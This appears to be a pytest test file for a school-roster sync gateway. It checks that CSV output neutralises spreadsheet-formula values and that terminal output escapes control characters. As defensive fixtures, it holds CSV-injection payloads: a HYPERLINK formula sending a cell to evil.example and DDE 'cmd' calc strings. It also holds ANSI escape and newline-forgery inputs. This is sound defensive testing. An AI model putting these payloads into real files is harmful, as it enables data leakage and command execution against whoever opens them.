"""What the gateway writes and prints stays data: source values that look like spreadsheet
formulas are neutralised in every CSV it writes, and names or values carrying control
characters cannot forge a line of `gateway` output or send escape sequences to the terminal."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, timedelta
from pathlib import Path

import pytest

from adapters.oneroster_csv.fixtures import build_package, fixture_path
from gateway.safe_text import csv_cell, terminal
from tests.cli.conftest import Workspace, run_header

ENROLLMENTS = (fixture_path("v1p2_bulk") / "enrollments.csv").read_text()
USERS = (fixture_path("v1p2_bulk") / "users.csv").read_text()
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-3", "-2+3+cmd|' /C calc'!A0"]
FORGED = "run 99 (sis): applied"


def _enrollments_with_roles(roles: list[str]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    lines = ENROLLMENTS.splitlines()
    out.write(lines[0] + "\n")
    for number, role in enumerate(roles, start=1):
        writer.writerow([f"enr-x{number}", "", "", "class-alg1-p1", "org-school-1", "user-s-1",
                         role, "false", "", ""])
    return out.getvalue()


def _issue_values(rows: list[dict[str, str]]) -> set[str]:
    return {row["value"] for row in rows if row["field"] == "role"}


@pytest.fixture
def hostile(workspace: Workspace) -> Workspace:
    build_package(workspace.folder / "pkg", "v1p2_bulk",
                  {"enrollments.csv": _enrollments_with_roles(FORMULAS)})
    workspace.add_source("sis", "oneroster-csv", path=str(workspace.folder / "pkg"))
    return workspace


def test_formula_values_are_neutralised_in_the_report_csv_and_runs_show_csv(
    hostile: Workspace,
) -> None:
    run_id = run_header(hostile.gateway("sync", "sis", expect=2).stdout)[0]
    expected = {"'" + value for value in FORMULAS}

    report = hostile.folder / "var" / "reports" / f"run-{run_id}.csv"
    with report.open(newline="", encoding="utf-8") as handle:
        assert _issue_values(list(csv.DictReader(handle))) == expected

    printed = hostile.gateway("runs", "show", str(run_id), "--format", "csv").stdout
    assert _issue_values(list(csv.DictReader(io.StringIO(printed)))) == expected


def test_no_cell_of_the_written_csvs_starts_like_a_formula(hostile: Workspace) -> None:
    run_id = run_header(hostile.gateway("sync", "sis", expect=2).stdout)[0]
    report = (hostile.folder / "var" / "reports" / f"run-{run_id}.csv").read_text("utf-8")
    printed = hostile.gateway("runs", "show", str(run_id), "--format", "csv").stdout
    for text in (report, printed):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_tab_and_carriage_return_starts_are_neutralised_too() -> None:
    # The OneRoster reader strips blanks around cells, so these two cannot reach a report
    # through that adapter; the rule is checked where it is applied.
    assert csv_cell("\t=1+1") == "'\t=1+1"
    assert csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("plain -3") == "plain -3"
    assert csv_cell(42) == 42


def _zip_with_member(folder: Path, member: str) -> Path:
    archive = build_package(folder / "pkg", "v1p2_bulk", as_zip=True)
    with zipfile.ZipFile(archive, "a", zipfile.ZIP_DEFLATED) as out:
        out.writestr(member, "nothing to see\n")
    return archive


def test_a_zip_member_name_with_a_newline_cannot_forge_a_line_of_sync_output(
    workspace: Workspace,
) -> None:
    archive = _zip_with_member(workspace.folder, f"notes\n{FORGED}")
    workspace.add_source("sis", "oneroster-csv", path=str(archive))
    result = workspace.gateway("sync", "sis")
    lines = result.stdout.splitlines()
    assert run_header(result.stdout)[2] == "applied"
    assert FORGED not in lines
    assert f"  warning notes\\n{FORGED}: not a file of the OneRoster CSV binding; ignored" in lines

    shown = workspace.gateway("runs", "show", str(run_header(result.stdout)[0])).stdout
    assert FORGED not in shown.splitlines()
    assert f"notes\\n{FORGED}" in shown


def test_escape_sequences_in_ids_and_column_names_are_printed_visibly(
    workspace: Workspace,
) -> None:
    header, *rows = USERS.splitlines()
    evil_id = "user-s-9\x1b[2J\x1b]0;owned\x07"
    users = "\n".join([header + ",nick\x1b[31mname\u202e", *[r + "," for r in rows],
                       rows[1].replace("user-s-1", evil_id).replace("jchen", "jchen9") + ","])
    build_package(workspace.folder / "pkg", "v1p2_bulk", {"users.csv": users + "\n"})
    workspace.add_source("sis", "oneroster-csv", path=str(workspace.folder / "pkg"))
    result = workspace.gateway("sync", "sis", "--dry-run", expect=2)
    for text in (result.stdout, result.output):
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "users.csv:nick\\x1b[31mname\\u202e" in result.stdout
    # The id is refused at the canonical boundary (one row of 39 is over the 1% limit);
    # the refusal names it, escaped.
    assert ("users.csv:6 sourcedId='user-s-9\\x1b[2J\\x1b]0;owned\\x07': "
            "sourcedId contains a control character") in result.stdout


@pytest.mark.parametrize("char, escaped", [
    ("\n", "\\n"), ("\r", "\\r"), ("\t", "\\t"), ("\x00", "\\x00"), ("\x1b", "\\x1b"),
    ("\x7f", "\\x7f"), ("\x85", "\\x85"), ("\x9b", "\\x9b"), ("\u2028", "\\u2028"),
    ("\u2029", "\\u2029"), ("\u202a", "\\u202a"), ("\u202e", "\\u202e"), ("\u2066", "\\u2066"),
    ("\u2069", "\\u2069"), ("\u200f", "\\u200f"),
])
def test_terminal_renders_each_dangerous_character_visibly(char: str, escaped: str) -> None:
    assert terminal(f"a{char}b") == f"a{escaped}b"


def test_terminal_leaves_ordinary_text_and_existing_escapes_alone() -> None:
    text = "Zoë O’Brien – 東京 'a\\nb' C:\\data"
    assert terminal(text) == text
    assert terminal(terminal("x\ny")) == terminal("x\ny")


def test_apps_list_shows_a_hostile_app_or_agreement_name_on_one_line(workspace: Workspace,
                                                                     ) -> None:
    agreement = workspace.folder / "agreement.toml"
    agreement.write_text(
        'name = "Reading \\u001b[8mBuddy"\npurpose = "instruction"\n'
        f'expires = "{date.today() + timedelta(days=30)}"\n'
        'scopes = ["roster-core.readonly"]\n', encoding="utf-8")
    workspace.gateway("apps", "add", f"Buddy\n{FORGED}", "--agreement", str(agreement))
    listing = workspace.gateway("apps", "list").stdout
    assert len(listing.splitlines()) == 1 and "\x1b" not in listing
    assert f"Buddy\\n{FORGED}" in listing and "Reading \\x1b[8mBuddy" in listing
